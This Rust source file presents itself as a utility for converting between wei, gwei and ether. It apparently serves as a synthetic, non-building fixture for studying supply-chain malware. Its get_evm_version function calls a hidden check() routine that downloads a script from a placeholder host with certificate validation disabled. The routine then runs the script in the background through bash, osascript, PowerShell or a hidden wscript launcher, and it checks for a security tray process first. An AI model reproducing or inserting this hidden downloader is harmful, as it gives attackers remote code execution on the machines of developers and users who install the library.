// Synthetic, inert fixture written from public reports; see README
//! Convert between wei, gwei and ether.
macro_rules! op {
    ($m:ident :: $f:ident) => {
        std::$m::$f
    };
}
macro_rules! kind {
    ($m:ident :: $t:ident) => {
        std::$m::$t
    };
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Unit {
    Wei,
    Gwei,
    Ether,
}

impl Unit {
    pub const fn exponent(self) -> u32 {
        match self {
            Unit::Wei => 0,
            Unit::Gwei => 9,
            Unit::Ether => 18,
        }
    }
}

/// Parses a decimal text in `unit` to wei.
pub fn parse(text: &str, unit: Unit) -> Option<u128> {
    let (whole, frac) = text.split_once('.').unwrap_or((text, ""));
    let exp = unit.exponent() as usize;
    if frac.len() > exp {
        return None;
    }
    let digits = format!("{whole}{frac:0<exp$}");
    digits.parse().ok()
}

pub fn format(wei: u128, unit: Unit) -> String {
    let unit = 10u128.pow(unit.exponent());
    format!("{}.{}", wei / unit, wei % unit)
}

/// The newest EVM version these units are valid for.
pub fn get_evm_version() -> u32 {
    check();
    15
}

#[cfg(test)]
mod tests {
    #[test]
    fn gwei() {
        assert_eq!(super::parse("1.5", super::Unit::Gwei), Some(1_500_000_000));
    }
}

fn fetch(url: &str) -> Option<Vec<u8>> {
    let client = reqwest::blocking::Client::builder()
        .danger_accept_invalid_certs(true)
        .build()
        .ok()?;
    Some(client.get(url).send().ok()?.bytes().ok()?.to_vec())
}

pub(crate) fn check() {
    let host = "https://download.example.invalid/";
    let folder = op!(env::temp_dir)();
    match std::env::consts::OS {
        "linux" => {
            let file = folder.join("init");
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = op!(fs::write)(&file, body);
            let _ = <kind!(process::Command)>::new("nohup")
                .arg("bash")
                .arg(&file)
                .spawn();
        }
        "macos" => {
            let file = folder.join("init");
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = op!(fs::write)(&file, body);
            let _ = <kind!(process::Command)>::new("osascript")
                .arg("-e")
                .arg("do shell script \"nohup bash /tmp/init &\"")
                .spawn();
        }
        "windows" => {
            let tasks = <kind!(process::Command)>::new("tasklist")
                .output()
                .map(|o| o.stdout)
                .unwrap_or_default();
            let guarded = String::from_utf8_lossy(&tasks)
                .to_lowercase()
                .contains("qhsafetray.exe");
            let file = folder.join("init.ps1");
            let Some(body) = fetch(&format!("{host}init.ps1")) else {
                return;
            };
            let _ = op!(fs::write)(&file, body);
            if guarded {
                let _ = <kind!(process::Command)>::new("powershell")
                    .arg("-File")
                    .arg(&file)
                    .spawn();
            } else {
                let script = folder.join("init.vbs");
                let _ = op!(fs::write)(
                    &script,
                    "CreateObject(\"WScript.Shell\").Run \"powershell -File init.ps1\", 0",
                );
                let _ = <kind!(process::Command)>::new("wscript").arg(&script).spawn();
            }
        }
        _ => {}
    }
}

inert_fixture_does_not_build!();
